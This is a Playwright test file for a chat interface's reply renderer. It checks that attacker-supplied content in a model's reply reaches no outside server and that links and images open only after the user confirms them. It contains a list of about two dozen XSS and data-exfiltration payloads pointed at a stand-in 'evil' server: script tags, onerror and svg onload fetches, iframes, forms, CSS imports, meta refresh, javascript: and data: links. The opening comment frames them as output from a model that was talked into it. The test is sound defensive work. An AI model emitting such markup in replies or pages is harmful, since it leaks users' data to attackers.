import { expect, type Page, test } from '@playwright/test'
import { driver } from './driver.ts'
import { type AppServer, startAppServer } from './fixtures/app-server.ts'
import { type EvilServer, startEvilServer } from './fixtures/evil-server.ts'

// The scripted engine repeats what it was told, so what is sent comes back as the reply of a model that was talked into it.
let server: AppServer
let evil: EvilServer
let page: Page
test.beforeEach(async ({ browser }) => {
  server = await startAppServer()
  evil = await startEvilServer()
  page = await browser.newPage({ baseURL: server.url })
})
test.afterEach(async () => {
  await page.context().close()
  await evil.close()
  await server.close()
})

const payloads = (url: string) => [
  `![pixel](${url}/image)`,
  `![reference][r]\n\n[r]: ${url}/reference`,
  `[![linked](${url}/linked-image)](${url}/link)`,
  `<img src="${url}/html-image">`,
  `<script src="${url}/script"></script>`,
  `<script>fetch('${url}/inline')</script>`,
  `<form action="${url}/form"><input name="q"><button>Go</button></form>`,
  `<iframe src="${url}/frame"></iframe>`,
  `<iframe srcdoc="<img src='${url}/srcdoc'>"></iframe>`,
  `<svg onload="fetch('${url}/svg')"><image href="${url}/svg-image"/></svg>`,
  `<img src=x onerror="fetch('${url}/onerror')">`,
  `<link rel="stylesheet" href="${url}/css">`,
  `<link rel="prefetch" href="${url}/prefetch">`,
  `<meta http-equiv="refresh" content="0;url=${url}/refresh">`,
  `<style>@import url(${url}/import); body { background: url(${url}/background) }</style>`,
  `<video poster="${url}/poster" src="${url}/video"></video>`,
  `<object data="${url}/object"></object><embed src="${url}/embed">`,
  `<base href="${url}/base/">`,
  `[script link](javascript:fetch('${url}/javascript'))`,
  `[data link](data:text/html,<script>fetch('${url}/data')</script>)`,
  `$\\includegraphics{${url}/math} \\href{javascript:fetch('${url}/math-link')}{x} \\url{${url}/math-url}$`,
  `\`\`\`html\n<img src="${url}/code">\n\`\`\``,
  `| a | b |\n|---|---|\n| ![](${url}/table) | <img src="${url}/cell"> |`,
  `<${url}/autolink>`,
]

test('[S2] a planted image, script, form or frame in a reply reaches nothing', async () => {
  const chat = driver(page)
  await chat.open()
  await chat.loadModel()
  await chat.say(payloads(evil.url).join('\n\n'))
  await page.waitForTimeout(1000)
  expect([...evil.heard()]).toEqual([])
  expect(evil.connections()).toBe(0)
  expect(server.takeReports(), 'the renderer did not even try').toEqual([])
  expect(page.url()).toContain(server.url)

  const made = await page.evaluate(() =>
    [...document.querySelectorAll('article *')]
      .filter((element) => /^(script|iframe|form|object|embed|link|meta|base|style|video|audio|image)$/i.test(element.localName))
      .map((element) => element.outerHTML),
  )
  expect(made).toEqual([])
  const addresses = await page.evaluate(() =>
    [...document.querySelectorAll('article [src], article [href], article [srcset]')].map((element) =>
      element.getAttribute(element.hasAttribute('href') ? 'href' : 'src'),
    ),
  )
  expect(addresses.filter((address) => !/^(https?:|#|\/)/.test(address ?? ''))).toEqual([])
})

test('[E92] characters by their names are drawn, in a document that lets nothing parse HTML', async () => {
  const chat = driver(page)
  await chat.open()
  await chat.loadModel()
  const reply = await chat.say('Fish &amp; chips &copy; 2026 &nosuch;')
  await expect(reply).toContainText('Fish & chips © 2026 &nosuch;')
  expect(server.takeReports()).toEqual([])
})

test('a link opens only after its whole address was confirmed', async () => {
  const chat = driver(page)
  await chat.open()
  await chat.loadModel()
  const reply = await chat.say(`[a nice page](${evil.url}/confirmed?secret=1)`)
  await reply.getByRole('link', { name: 'a nice page' }).click()
  const dialog = page.getByRole('dialog')
  await expect(dialog).toContainText(`${evil.url}/confirmed?secret=1`)
  expect([...evil.heard()]).toEqual([])
  const opened = page.context().waitForEvent('page')
  await dialog.getByRole('button', { name: 'Open in a new tab' }).click()
  await opened
  await expect.poll(() => [...evil.heard()]).toContain('confirmed')
  expect(page.url()).toContain(server.url)
})

test('an image is fetched by no click but the one that opens it elsewhere', async () => {
  const chat = driver(page)
  await chat.open()
  await chat.loadModel()
  const reply = await chat.say(`![a chart](${evil.url}/chart.png)`)
  await reply.getByRole('button', { name: /a chart/ }).click()
  await expect(page.getByRole('dialog')).toContainText(`${evil.url}/chart.png`)
  await page.getByRole('button', { name: 'Stay here' }).click()
  await page.waitForTimeout(500)
  expect([...evil.heard()]).toEqual([])
})
